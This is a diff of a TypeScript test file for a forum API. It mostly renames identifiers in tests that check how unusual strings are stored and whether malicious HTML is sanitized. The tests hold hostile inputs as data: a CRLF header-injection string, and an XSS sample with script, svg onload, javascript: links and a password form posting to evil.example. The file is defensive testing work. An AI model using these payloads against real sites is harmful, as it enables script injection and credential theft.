@@ -9,7 +9,7 @@ import { type App, startApp } from "#tests/support/app.ts";
 import { makeForum, makePost, makeTopic, wrongCounters } from "#tests/support/community.ts";
 import { naughtyStrings } from "./naughty-strings.ts";
 
-/** Hundreds of calls a test: seconds on a quiet machine, more on a busy one. */
+/** A test makes hundreds of calls: seconds on an idle machine, more on a busy one. */
 vi.setConfig({ testTimeout: 60_000 });
 
 let app: App;
@@ -25,8 +25,14 @@ beforeAll(async () => {
 });
 afterAll(() => app.stop());
 
-/** Where a text goes in, and comes out as it was typed; one line without what is not seen. */
-const KEPT: [field: string, longest: number, send: (text: string) => Promise<ApiAnswer>][] = [
+/**
+ * Fields that store a text as typed. Those in `ONE_LINE` drop line breaks and invisible characters.
+ */
+const STORED_FIELDS: [
+  field: string,
+  max_length: number,
+  send: (text: string) => Promise<ApiAnswer>,
+][] = [
   ["title", 200, (title) => selin.put(`/topics/${ids.topic_id}`, { title })],
   ["name", 100, (name) => selin.put(`/categories/${ids.category_id}`, { name })],
   ["description", 500, (description) => selin.put(`/forums/${ids.forum_id}`, { description })],
@@ -36,38 +42,39 @@ const KEPT: [field: string, longest: number, send: (text: string) => Promise<Api
 
 const ONE_LINE = new Set(["title", "name", "full_name"]);
 
-test.each(KEPT)(
-  "%s keeps all that is seen of every odd string, or refuses it with a reason",
-  async (field, longest, send) => {
-    const kept = await eachOf(naughtyStrings(), async (text) => {
+test.each(STORED_FIELDS)(
+  "%s stores every visible character of unusual strings, or refuses them with a reason",
+  async (field, max_length, send) => {
+    const stored = await eachOf(naughtyStrings(), async (text) => {
       const { status, body } = await send(text);
-      const typed = ONE_LINE.has(field)
+      const expected_text = ONE_LINE.has(field)
         ? oneLine(text.normalize("NFC"))
         : text.normalize("NFC").trim();
-      const isNothing = typed === "" || (ONE_LINE.has(field) && !hasVisibleText(typed));
+      const isEmpty =
+        expected_text === "" || (ONE_LINE.has(field) && !hasVisibleText(expected_text));
       const isText = text.isWellFormed() && !text.includes("\0");
       if (status === 422) {
         expect(body.detail, JSON.stringify(text)).toEqual([
           { type: expect.any(String), loc: ["body", field], msg: expect.stringMatching(/\w/) },
         ]);
         expect(
-          !isText || isNothing || typed.length > longest,
+          !isText || isEmpty || expected_text.length > max_length,
           `${JSON.stringify(text)} should be kept`,
         ).toBe(true);
         return false;
       }
       expect([status, body[field] ?? ""], JSON.stringify(text)).toEqual([
         200,
-        isNothing ? "" : typed,
+        isEmpty ? "" : expected_text,
       ]);
       return true;
     });
-    expect(kept.filter(Boolean).length).toBeGreaterThan(50);
+    expect(stored.filter(Boolean).length).toBeGreaterThan(50);
   },
 );
 
-test.each(KEPT.filter(([field]) => ONE_LINE.has(field)))(
-  "%s is one line, whatever was sent",
+test.each(STORED_FIELDS.filter(([field]) => ONE_LINE.has(field)))(
+  "%s is stored as one line",
   async (field, _, send) => {
     for (const sent of [
       "Ali\r\nBcc: z@z.zz",
@@ -81,7 +88,7 @@ test.each(KEPT.filter(([field]) => ONE_LINE.has(field)))(
   },
 );
 
-const NOTHING = [
+const INVISIBLE_TEXTS = [
   "\u200b",
   "\u2060\u2060\u2060",
   "\u00ad\u00ad\u00ad",
@@ -117,8 +124,8 @@ test.each([
         password: "doğru-at-pil",
       }),
   ],
-])("a %s that shows nothing is none: %s", async (field, msg, send) => {
-  for (const text of NOTHING) {
+])("a %s without visible characters is refused: %s", async (field, msg, send) => {
+  for (const text of INVISIBLE_TEXTS) {
     const { status, body } = await send(text);
     expect([status, body.detail], JSON.stringify(text)).toEqual([
       422,
@@ -127,10 +134,8 @@ test.each([
   }
 });
 
-/**
- * Where a text is looked for, or is one half of a secret: nothing is ever found or opened by these.
- */
-const JUDGED: [what: string, expected: number[], send: (text: string) => Promise<ApiAnswer>][] = [
+/** Calls that search by a text or check it as a secret. The unusual strings must match nothing. */
+const LOOKUPS: [what: string, expected: number[], send: (text: string) => Promise<ApiAnswer>][] = [
   [
     "a search",
     [200, 422],
@@ -166,33 +171,34 @@ const JUDGED: [what: string, expected: number[], send: (text: string) => Promise
   ],
 ];
 
-test.each(JUDGED)(
-  "%s of odd characters finds nothing and breaks nothing",
+test.each(LOOKUPS)(
+  "%s with unusual characters is answered without an error",
   async (_, expected, send) => {
     await eachOf(naughtyStrings(), async (text) => {
-      const { status, body, text: said } = await send(text);
+      const { status, body, text: answer_text } = await send(text);
       expect([JSON.stringify(text), status, expected.includes(status)]).toEqual([
         JSON.stringify(text),
         status,
         true,
       ]);
-      if (status >= 400) expect([said, body.detail]).toEqual([said, expect.anything()]);
+      if (status >= 400)
+        expect([answer_text, body.detail]).toEqual([answer_text, expect.anything()]);
     });
   },
 );
 
-const OUR_OWN: unknown = JSON.parse(
+const OWN_PAYLOADS: unknown = JSON.parse(
   readFileSync(new URL("../../app/content/html-payloads.json", import.meta.url), "utf8"),
 );
 const CORPORA = new URL("../../../shared/corpora/", import.meta.url);
 
-/** Lists of HTML that was made to slip through; those beside the project too. */
+/** Malicious HTML, also from the folder beside the project if it exists. */
 function payloads(): string[] {
   const names = existsSync(CORPORA)
     ? readdirSync(CORPORA).filter((name) => name.startsWith("html-"))
     : [];
   const lists: unknown[] = [
-    OUR_OWN,
+    OWN_PAYLOADS,
     ...names.map((name) => JSON.parse(readFileSync(new URL(name, CORPORA), "utf8"))),
   ];
   return [
@@ -208,12 +214,12 @@ function payloadOf(entry: unknown): string {
     : "";
 }
 
-test("of HTML that was made to slip through only what the contract names is stored, and read back", async () => {
+test("only the elements of the contract are stored of malicious HTML", async () => {
   const sent = payloads();
   expect(sent.length).toBeGreaterThan(150);
-  const stored = await eachOf(sent, async (content, place) => {
+  const stored = await eachOf(sent, async (content, index) => {
     const answer =
-      place % 2 === 0
+      index % 2 === 0
         ? await selin.post(`/topics/${ids.topic_id}/post`, { content })
         : await selin.put(`/topics/${ids.topic_id}/post/${ids.post_id}`, { content });
     expect([content, answer.status, [200, 422].includes(answer.status)]).toEqual([
@@ -233,7 +239,7 @@ test("of HTML that was made to slip through only what the contract names is stor
   expect(await wrongCounters(app)).toEqual([]);
 });
 
-test("a topic's own content goes the same way", async () => {
+test("malicious HTML is removed from a topic's own content, too", async () => {
   const hidden =
     '<p onclick="a()" id="b" class="c" style="d">Masa<script>e()</script><svg onload=f()><iframe src=//g></iframe><a href="javascript:h()">i</a></p>';
   expect(forbiddenIn(hidden)).toEqual(
@@ -248,24 +254,21 @@ test("a topic's own content goes the same way", async () => {
       "a href=javascript:h()",
     ]),
   );
-  const { body: made } = await selin.post("/topics/", {
+  const { body: created } = await selin.post("/topics/", {
     forum_id: ids.forum_id,
     title: "Masa",
     content: hidden,
   });
-  expect(forbiddenIn(made.content)).toEqual([]);
-  expect(made.content).toContain("Masa");
-  const { body: changed } = await selin.put(`/topics/${made.id}`, {
+  expect(forbiddenIn(created.content)).toEqual([]);
+  expect(created.content).toContain("Masa");
+  const { body: changed } = await selin.put(`/topics/${created.id}`, {
     content: `${hidden}<form action=//evil.example><input name=password>`,
   });
   expect(forbiddenIn(changed.content)).toEqual([]);
-  expect((await selin.get(`/topics/${made.id}`)).body.content).toBe(changed.content);
+  expect((await selin.get(`/topics/${created.id}`)).body.content).toBe(changed.content);
 });
 
-/**
- * Every element that the contract lets through, with the attributes that it may have and what each
- * may say.
- */
+/** Every element that the contract allows, with its attributes and their allowed values. */
 const WEB = /^https?:\/\/[^\s"<>]+$/;
 const OWN_ADDRESS = /^\/(?![/\\])[^\s"<>\\]*$/;
 const ALLOWED: Record<string, Record<string, RegExp>> = {
@@ -293,7 +296,7 @@ const ALLOWED: Record<string, Record<string, RegExp>> = {
 
 function forbiddenIn(html: string): string[] {
   const elements: HTMLElement[] = parse(html).querySelectorAll("*");
-  // The parser passes over what was never closed; a browser does not.
+  // The parser skips elements that are never closed; a browser does not.
   const tags = [...html.matchAll(/<\/?([^\s/>]*)/g)].map(([, name = ""]) => name);
   const odd = elements.flatMap(({ rawTagName, attributes }) => {
     const allowed = ALLOWED[rawTagName] ?? {};
